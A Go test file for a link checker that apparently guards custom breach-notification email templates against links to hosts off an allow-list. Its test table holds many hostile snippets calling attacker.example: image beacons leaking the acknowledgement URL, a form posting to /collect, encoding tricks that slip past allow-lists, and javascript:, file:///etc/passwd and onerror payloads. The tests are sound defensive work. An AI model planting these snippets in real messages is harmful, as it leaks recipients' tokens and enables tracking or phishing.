package notice_test

import (
	"errors"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/breachflow/breachflow/internal/notice"
)

// linkHosts are the hosts the link tests allow.
var linkHosts = []string{"ack.example.com", "Status.Example.com", "*.cdn.example.net"}

const linkHostsShown = "ack.example.com, status.example.com, *.cdn.example.net"

// linkDraft returns a valid draft whose English template part carries snippet after a
// complete body (or, for the subject, is snippet).
func linkDraft(part, snippet string) notice.Draft {
	d := validDraft()
	var tmpl notice.Template
	switch part {
	case notice.PartSubject:
		tmpl.Subject = snippet
	case notice.PartText:
		tmpl.Text = bodyTemplate() + snippet
	default:
		tmpl.HTML = bodyTemplate() + snippet
	}
	d.Templates = map[string]notice.Template{"en": tmpl}
	return d
}

func TestCheckLinksRefusesForeignHosts(t *testing.T) {
	t.Parallel()
	foreign := `link to host "attacker.example" is not allowed (allowed: ` + linkHostsShown + `)`
	tests := []struct {
		name    string
		part    string
		snippet string
		edit    func(d *notice.Draft)
		want    string
	}{
		{name: "ack link leaked in an image", part: notice.PartHTML,
			snippet: `<img src="https://attacker.example/p.gif?l={{.AckURL}}">`, want: foreign},
		{name: "href", part: notice.PartHTML, snippet: `<a href="https://attacker.example/">more</a>`, want: foreign},
		{name: "upper-case scheme and host", part: notice.PartHTML, snippet: `<a href="HTTPS://ATTACKER.EXAMPLE/">more</a>`, want: foreign},
		{name: "srcset second candidate", part: notice.PartHTML,
			snippet: `<img src="https://status.example.com/a.png" srcset="https://status.example.com/a.png 1x, https:attacker.example/b.png 2x">`, want: foreign},
		{name: "form action", part: notice.PartHTML, snippet: `<form action="https://attacker.example/collect"><input name="q"></form>`, want: foreign},
		{name: "formaction", part: notice.PartHTML, snippet: `<form><button formaction="https:attacker.example/x">go</button></form>`, want: foreign},
		{name: "poster", part: notice.PartHTML, snippet: `<video poster="https://attacker.example/p.jpg"></video>`, want: foreign},
		{name: "background", part: notice.PartHTML, snippet: `<table background="https:attacker.example/bg.png"><tr><td>x</td></tr></table>`, want: foreign},
		{name: "style attribute url", part: notice.PartHTML,
			snippet: `<div style="background-image:url('https://attacker.example/bg.png')">x</div>`, want: foreign},
		{name: "style attribute with CSS escapes", part: notice.PartHTML,
			snippet: `<div style="background:url(//\61ttacker.example/x.png)">x</div>`, want: foreign},
		{name: "style element import", part: notice.PartHTML,
			snippet: `<style>@import url("https:attacker.example/a.css");</style>`, want: foreign},
		{name: "style element image-set", part: notice.PartHTML,
			snippet: `<style>.x{background-image:image-set("//attacker.example/x.png" 1x)}</style>`, want: foreign},
		{name: "SVG fill", part: notice.PartHTML, snippet: `<svg><rect fill="url(//attacker.example/p.svg#a)"/></svg>`, want: foreign},
		{name: "SVG xlink:href", part: notice.PartHTML, snippet: `<svg><image xlink:href="https:attacker.example/x.png"/></svg>`, want: foreign},
		{name: "protocol-relative", part: notice.PartHTML, snippet: `<img src="//attacker.example/x.png">`, want: foreign},
		{name: "backslashes", part: notice.PartHTML, snippet: `<img src="\\attacker.example\x.png">`, want: foreign},
		{name: "user information before the host", part: notice.PartHTML,
			snippet: `<a href="https://ack.example.com@attacker.example/">x</a>`, want: foreign},
		{name: "percent-encoded host", part: notice.PartHTML, snippet: `<a href="https://attacker%2Eexample/">x</a>`, want: foreign},
		{name: "entity-encoded URL", part: notice.PartHTML, snippet: `<a href="https&#58;//attacker&#46;example/">x</a>`, want: foreign},
		{name: "allowed host as a prefix", part: notice.PartHTML,
			snippet: `<a href="https://status.example.com.attacker.example/">x</a>`,
			want:    `link to host "status.example.com.attacker.example" is not allowed`},
		{name: "subdomain of an exact entry", part: notice.PartHTML,
			snippet: `<a href="https://evil.status.example.com/">x</a>`, want: `link to host "evil.status.example.com" is not allowed`},
		{name: "wildcard does not allow the domain itself", part: notice.PartHTML,
			snippet: `<img src="https://cdn.example.net/x.png">`, want: `link to host "cdn.example.net" is not allowed`},
		{name: "URL in another URL's query", part: notice.PartHTML,
			snippet: `<a href="https://status.example.com/r?to=https://attacker.example/{{.AckURL}}">x</a>`, want: foreign},
		{name: "meta refresh", part: notice.PartHTML,
			snippet: `<meta http-equiv="refresh" content="0; URL='https:attacker.example/?{{.AckURL}}'">`, want: foreign},
		{name: "meta refresh to a script", part: notice.PartHTML,
			snippet: `<meta http-equiv="Refresh" content="0;url=javascript:alert(1)">`, want: `link with scheme "javascript" is not allowed`},
		{name: "base href", part: notice.PartHTML, snippet: `<base href="https://attacker.example/"><a href="/x">x</a>`, want: foreign},
		{name: "iframe srcdoc", part: notice.PartHTML,
			snippet: `<iframe srcdoc="&lt;img src=https:attacker.example/x&gt;"></iframe>`, want: foreign},
		{name: "noscript read as markup", part: notice.PartHTML,
			snippet: `<noscript><img src="https:attacker.example/x.png"></noscript>`, want: foreign},
		{name: "HTML text", part: notice.PartHTML, snippet: `<p>Details: https://attacker.example/details</p>`, want: foreign},
		{name: "www in HTML text", part: notice.PartHTML, snippet: `<p>Details: www.attacker.example/details</p>`,
			want: `link to host "www.attacker.example" is not allowed`},
		{name: "plain text", part: notice.PartText, snippet: "\nMore at https://attacker.example/info?{{.AckURL}}\n", want: foreign},
		{name: "www in plain text", part: notice.PartText, snippet: "\nMore at www.attacker.example\n",
			want: `link to host "www.attacker.example" is not allowed`},
		{name: "subject", part: notice.PartSubject, snippet: "Incident {{.Reference}}: see https://attacker.example", want: foreign},
		{name: "javascript", part: notice.PartHTML, snippet: `<a href="javascript:alert(1)">x</a>`,
			want: `link with scheme "javascript" is not allowed (only http, https and mailto)`},
		{name: "javascript with spaces, case and a tab", part: notice.PartHTML, snippet: `<a href=" JaVa&#x09;ScRiPt:alert(1)">x</a>`,
			want: `link with scheme "javascript" is not allowed`},
		{name: "data", part: notice.PartHTML, snippet: `<img src="data:image/png;base64,iVBORw0KGgo=">`, want: `link with scheme "data" is not allowed`},
		{name: "vbscript", part: notice.PartHTML, snippet: `<a href="vbscript:msgbox(1)">x</a>`, want: `link with scheme "vbscript" is not allowed`},
		{name: "file", part: notice.PartHTML, snippet: `<a href="file:///etc/passwd">x</a>`, want: `link with scheme "file" is not allowed`},
		{name: "ftp in text", part: notice.PartText, snippet: "\nftp://status.example.com/x\n", want: `link with scheme "ftp" is not allowed`},
		{name: "event handler", part: notice.PartHTML,
			snippet: `<img src="https://status.example.com/x.png" onerror="this.src='//attacker.example/'">`,
			want:    `event handler attribute "onerror" is not allowed`},
		{name: "placeholder in the host", part: notice.PartHTML,
			snippet: `<a href="https://{{.TenantName}}.status.example.com/">x</a>`, want: "link whose host comes from a placeholder is not allowed"},
		{name: "placeholder as the host in text", part: notice.PartText,
			snippet: "\nhttps://{{.AckURL}}\n", want: "link whose host comes from a placeholder is not allowed"},
		{name: "placeholder starts the link", part: notice.PartHTML,
			snippet: `<a href="{{.TenantName}}">x</a>`, want: "link that starts with a placeholder other than {{.AckURL}} is not allowed"},
		{name: "placeholder completes the scheme", part: notice.PartHTML,
			snippet: `<a href="java{{.TenantName}}">x</a>`, want: "link that starts with a placeholder other than {{.AckURL}} is not allowed"},
		{name: "host from a field", part: notice.PartHTML, snippet: `<a href="{{.Title}}">x</a>`,
			edit: func(d *notice.Draft) { d.Fields.Title = "https://attacker.example/" }, want: foreign},
		{name: "field adjoining the ack link", part: notice.PartText, snippet: "\n{{.AdditionalInformation}}{{.AckURL}}\n",
			edit: func(d *notice.Draft) { d.Fields.AdditionalInformation = "https://attacker.example/?" }, want: foreign},
		{name: "link built by printf", part: notice.PartHTML,
			snippet: `<img src="{{printf "%s://%s/p?%s" "https" "attacker.example" .AckURL}}">`, want: foreign},
		{name: "script", part: notice.PartHTML, snippet: `<SCRIPT>new Image().src="x"</SCRIPT>`, want: "scripts are not allowed"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			d := linkDraft(tt.part, tt.snippet)
			if tt.edit != nil {
				tt.edit(&d)
			}
			err := notice.CheckLinks(d, linkHosts)
			ve := validationError(t, err)
			var msgs []string
			for _, p := range ve.Invalid {
				require.Equal(t, notice.ElementTemplates, p.Element)
				require.Equal(t, "en", p.Locale)
				require.Equal(t, tt.part, p.Part)
				msgs = append(msgs, p.Message)
			}
			require.True(t, containsAny(msgs, tt.want), "want a problem containing %q, got %q", tt.want, msgs)
		})
	}
}

func containsAny(msgs []string, want string) bool {
	for _, m := range msgs {
		if strings.Contains(m, want) {
			return true
		}
	}
	return false
}

func TestCheckLinksRefusesTheReviewedAttack(t *testing.T) {
	t.Parallel()
	d := validDraft()
	d.Templates = map[string]notice.Template{"de": {HTML: bodyTemplate() +
		`<img src="https://attacker.example/p.gif?l={{.AckURL}}">`}}
	require.NoError(t, notice.Validate(d), "the draft is otherwise valid: only the link check stops it")

	err := notice.CheckLinks(d, []string{"ack.example.com", "status.example.com"})
	require.ErrorIs(t, err, notice.ErrInvalidDraft)
	var ve *notice.ValidationError
	require.True(t, errors.As(err, &ve))
	require.Equal(t, []notice.Problem{{Element: notice.ElementTemplates, Locale: "de", Part: notice.PartHTML,
		Message: `link to host "attacker.example" is not allowed (allowed: ack.example.com, status.example.com)`}}, ve.Invalid)
	require.EqualError(t, err, `invalid notice draft: the German (de) HTML template: `+
		`link to host "attacker.example" is not allowed (allowed: ack.example.com, status.example.com)`)
}

func TestCheckLinksAcceptsAllowedLinks(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name    string
		part    string
		snippet string
	}{
		{"ack link", notice.PartHTML, `<p><a href="{{.AckURL}}">Acknowledge</a> or open {{.AckURL}}</p>`},
		{"ack link in an image set", notice.PartHTML, `<img srcset="{{.AckURL}} 1x">`},
		{"exact host", notice.PartHTML, `<a href="https://status.example.com/incidents/{{.Reference}}">status</a>`},
		{"host in another case, with a port", notice.PartHTML, `<a href="HTTP://STATUS.example.COM:8443/x">status</a>`},
		{"subdomain of a wildcard", notice.PartHTML, `<img src="https://img.eu.cdn.example.net/logo.png" alt="logo">`},
		{"protocol-relative allowed host", notice.PartHTML, `<img src="//img.cdn.example.net/logo.png">`},
		{"placeholders in path and query", notice.PartHTML,
			`<a href="https://status.example.com/t/{{.TenantName}}?d={{.Deadline}}&amp;r={{.Reference}}">status</a>`},
		{"mailto", notice.PartHTML, `<a href="mailto:{{.Contact.Email}}?subject={{.Reference}}">{{.Contact.Email}}</a>`},
		{"relative and fragment links", notice.PartHTML, `<a href="#measures">measures</a><a href="?x=1">x</a>`},
		{"allowed CSS", notice.PartHTML,
			`<style>.logo{background:url("https://img.cdn.example.net/l.png")} /* note */</style><div style="background:url(#grad);color:#333">x</div>`},
		{"allowed srcset", notice.PartHTML, `<img srcset="https://img.cdn.example.net/a.png 1x, https://img.cdn.example.net/b.png 2x">`},
		{"allowed base", notice.PartHTML, `<base href="https://status.example.com/"><a href="incidents">x</a>`},
		{"doctype and namespaces", notice.PartHTML,
			`<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">` +
				`<html xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml"><p>x</p></html>`},
		{"text ending a sentence", notice.PartHTML, `<p>See https://status.example.com. Or www.cdn.example.net, today!</p>`},
		{"plain text", notice.PartText, "\nStatus: https://status.example.com/incidents\nAcknowledge: {{.AckURL}}\n"},
		{"subject", notice.PartSubject, "Incident {{.Reference}} (https://status.example.com)"},
		{"dates and emails are not links", notice.PartText, "\nWrite to dpo@provider.example about 2026/03/02.\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			require.NoError(t, notice.CheckLinks(linkDraft(tt.part, tt.snippet), linkHosts))
		})
	}
}

func TestCheckLinksChecksOnlyCustomParts(t *testing.T) {
	t.Parallel()
	require.NoError(t, notice.CheckLinks(validDraft(), nil), "no custom templates: nothing to check")

	for _, loc := range notice.Locales() {
		d := validDraft()
		d.Templates = map[string]notice.Template{loc: notice.DefaultTemplate(loc)}
		require.NoError(t, notice.CheckLinks(d, nil), "the default %s templates link only to the ack page and by mail", loc)
	}

	// A foreign link in a field shown by a default template is not a template's link.
	d := validDraft()
	d.Fields.Nature = "Phishing pages at https://attacker.example imitated our login."
	d.Templates = map[string]notice.Template{"it": {Subject: "Violazione {{.Reference}}"}}
	require.NoError(t, notice.CheckLinks(d, nil))
}

func TestCheckLinksReportsEveryLocaleAndPart(t *testing.T) {
	t.Parallel()
	d := validDraft()
	d.Templates = map[string]notice.Template{
		"it": {Text: bodyTemplate() + "\nhttps://one.example/\n", HTML: bodyTemplate() + `<img src="https://two.example/x">`},
		"de": {Subject: "Vorfall {{.Reference}} https://status.example.com/"},
		"fr": {Subject: "Incident {{.Reference}} https://three.example/"},
	}
	ve := validationError(t, notice.CheckLinks(d, []string{"status.example.com"}))
	require.Equal(t, []notice.Problem{
		{Element: notice.ElementTemplates, Locale: "fr", Part: notice.PartSubject,
			Message: `link to host "three.example" is not allowed (allowed: status.example.com)`},
		{Element: notice.ElementTemplates, Locale: "it", Part: notice.PartText,
			Message: `link to host "one.example" is not allowed (allowed: status.example.com)`},
		{Element: notice.ElementTemplates, Locale: "it", Part: notice.PartHTML,
			Message: `link to host "two.example" is not allowed (allowed: status.example.com)`},
	}, ve.Invalid)

	ve = validationError(t, notice.CheckLinks(d, nil))
	require.Contains(t, ve.Error(), `the German (de) subject template: link to host "status.example.com" is not allowed (allowed: none)`)
}

func TestCheckLinksReportsBrokenTemplates(t *testing.T) {
	t.Parallel()
	d := validDraft()
	d.Templates = map[string]notice.Template{"en": {HTML: "<p>{{.Nope}}</p>"}}
	ve := validationError(t, notice.CheckLinks(d, linkHosts))
	require.Len(t, ve.Invalid, 1)
	require.Equal(t, notice.PartHTML, ve.Invalid[0].Part)
	require.Contains(t, ve.Invalid[0].Message, "Nope")
}
